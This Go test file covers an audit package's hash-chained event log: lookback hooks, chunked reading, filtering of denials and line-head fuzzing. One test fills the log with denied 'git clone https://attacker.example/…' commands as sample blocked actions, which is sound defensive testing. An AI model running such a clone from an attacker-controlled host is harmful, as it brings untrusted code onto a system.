package audit

import (
	"bytes"
	"os"
	"slices"
	"testing"
	"time"
)

// recorder is a Hook that records what it is shown and adds one note
// after every event whose command is "note-me".
type recorder struct {
	lookback time.Duration
	seen     []uint64
	followed []uint64
}

func (r *recorder) Lookback() time.Duration { return r.lookback }
func (r *recorder) Seen(ev Event)           { r.seen = append(r.seen, ev.Seq) }
func (r *recorder) Follow(ev Event) []Event {
	r.followed = append(r.followed, ev.Seq)
	if ev.Context.Command != "note-me" {
		return nil
	}
	return []Event{{Kind: KindBehavioral, Decision: DecisionAlert, Reason: "noted", Context: Context{Alert: "note"}}}
}

func TestHookSeesOtherWritersAndAddsEvents(t *testing.T) {
	clk := newTestClock()
	a, path := openTest(t, WithClock(clk.now))
	for range 5 {
		if _, err := a.Append(denial("t", "x")); err != nil { // seqs 1..6
			t.Fatal(err)
		}
	}
	// B looks back 3.5 s on a clock that moves 1 s per reading: it sees
	// the events stamped within that time, those of A's last three appends.
	h := &recorder{lookback: 3500 * time.Millisecond}
	b, err := Open(path, WithClock(clk.now), WithHook(h))
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	_, evs, err := b.AppendAll(denial("t", "note-me"))
	if err != nil {
		t.Fatal(err)
	}
	if got := h.seen; !slices.Equal(got, []uint64{4, 5, 6}) {
		t.Errorf("lookback showed seqs %v, want [4 5 6]", got)
	}
	if len(evs) != 2 || evs[0].Seq != 7 || evs[1].Seq != 8 || evs[1].Prev != evs[0].Hash || evs[1].Context.Alert != "note" {
		t.Fatalf("AppendAll = %+v, want the event then the hook's note, chained", evs)
	}
	if !slices.Equal(h.followed, []uint64{7}) {
		t.Errorf("Follow saw %v, want [7] (not the note it added)", h.followed)
	}
	// Events A appends between B's writes are shown to B's hook once.
	for range 2 {
		a.Append(denial("t", "x")) // 9, 10
	}
	b.Append(denial("t", "y")) // 11
	b.Append(denial("t", "y")) // 12
	if !slices.Equal(h.seen, []uint64{4, 5, 6, 9, 10}) || !slices.Equal(h.followed, []uint64{7, 11, 12}) {
		t.Errorf("seen %v followed %v, want [4 5 6 9 10] and [7 11 12]", h.seen, h.followed)
	}
	f, _ := os.Open(path)
	defer f.Close()
	if _, err := Verify(f); err != nil {
		t.Fatal(err)
	}
}

func TestRecentEventsReadsBackAcrossChunks(t *testing.T) {
	orig := syncData
	syncData = func(*os.File) error { return nil } // speed: durability is not under test
	t.Cleanup(func() { syncData = orig })
	clk := newTestClock()
	l, path := openTest(t, WithClock(clk.now))
	for i := range 2000 {
		if _, err := l.Append(denial("run_tests", "git", "clone", "https://attacker.example/"+string(rune('a'+i%26)))); err != nil {
			t.Fatal(err)
		}
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	fi, _ := f.Stat()
	if fi.Size() < 4*64<<10 {
		t.Fatalf("log is only %d bytes: it does not cross chunks", fi.Size())
	}
	// Seq n (n >= 2) was stamped at 12:00:00 + n-1 seconds.
	since := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC).Add(1500 * time.Second)
	evs, err := recentEvents(f, fi.Size(), since, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(evs) != 500 || evs[0].Seq != 1502 || evs[499].Seq != 2001 {
		t.Fatalf("got %d events from seq %d, want 500 from 1502", len(evs), evs[0].Seq)
	}
	for i := 1; i < len(evs); i++ {
		if evs[i].Seq != evs[i-1].Seq+1 {
			t.Fatalf("events out of order at %d", i)
		}
	}
}

// sifter is a recorder that wants only denials.
type sifter struct{ recorder }

func (s *sifter) Wants(_ Kind, decision string, _ []byte) bool { return decision == DecisionDeny }

// TestSifterSkipsLines: a Sifter is shown only the lines it wants, both
// those within its lookback when its Log first writes and those other
// writers append later; the lines it does not want still count for where
// its lookback ends.
func TestSifterSkipsLines(t *testing.T) {
	clk := newTestClock()
	a, path := openTest(t, WithClock(clk.now))
	allow := denial("t", "ok")
	allow.Decision, allow.Reason = DecisionAllow, "allowed"
	for _, ev := range []Event{denial("t", "old"), allow, denial("t", "x"), allow, allow, denial("t", "y")} { // seqs 2..7
		if _, err := a.Append(ev); err != nil {
			t.Fatal(err)
		}
	}
	// Seq n was stamped at 12:00:00 + n-1 s; the clock reads 12:00:07 next.
	h := &sifter{recorder{lookback: 5500 * time.Millisecond}}
	b, err := Open(path, WithClock(clk.now), WithHook(h))
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	if _, err := b.Append(denial("t", "z")); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(h.seen, []uint64{4, 7}) {
		t.Errorf("the sifter was shown seqs %v, want the denials within its lookback, [4 7]", h.seen)
	}
	a.Append(allow)
	a.Append(denial("t", "w"))
	h.seen = nil
	if _, err := b.Append(denial("t", "v")); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(h.seen, []uint64{10}) {
		t.Errorf("then shown %v, want the other writer's denial, [10]", h.seen)
	}
}

// FuzzLineHead: a line's head, when read, is what parsing the whole line
// gives, for any bytes.
func FuzzLineHead(f *testing.F) {
	l, path := openTest(f)
	l.Append(denial("t", "x"))
	b, _ := os.ReadFile(path)
	for _, line := range bytes.Split(b, []byte{'\n'}) {
		f.Add(line)
	}
	f.Add([]byte(`{"seq":1,"ts":"2026-01-01T00:00:00Z","kind":"command","decision":"allow","reason":"x"}`))
	f.Add([]byte(`{"seq":1,"ts":"2026-01-01T00:00:00Z","kind":"comm\"and","decision":"allow"`))
	f.Fuzz(func(t *testing.T, line []byte) {
		ts, kind, decision, ok := lineHead(line)
		if !ok {
			return
		}
		if ev, err := ParseLine(line); err == nil && (!ev.TS.Equal(ts) || ev.Kind != kind || ev.Decision != decision) {
			t.Fatalf("head %v %q %q, line %v %q %q", ts, kind, decision, ev.TS, ev.Kind, ev.Decision)
		}
	})
}
